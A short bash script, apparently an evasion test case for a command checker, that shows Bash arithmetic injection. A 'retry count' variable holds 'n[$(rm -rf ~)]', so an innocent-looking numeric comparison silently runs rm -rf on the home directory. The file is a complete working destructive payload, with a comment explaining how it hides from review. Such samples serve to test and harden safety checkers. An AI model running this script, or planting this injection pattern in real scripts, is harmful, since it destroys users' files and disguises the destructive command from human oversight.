#!/usr/bin/env bash
# Evasion: delete the home directory. Bash arithmetic evaluates a variable's
# value as an expression, and an array subscript inside it undergoes command
# substitution. The "retry count" value is 'n[$(rm -rf ~)]', so the
# innocent-looking test (( retries > 0 )) runs rm -rf on the home.
set -u
declare -a n=(0)
retries='n[$(rm -rf ~)]'
if (( retries > 0 )); then
    echo "retrying"
fi
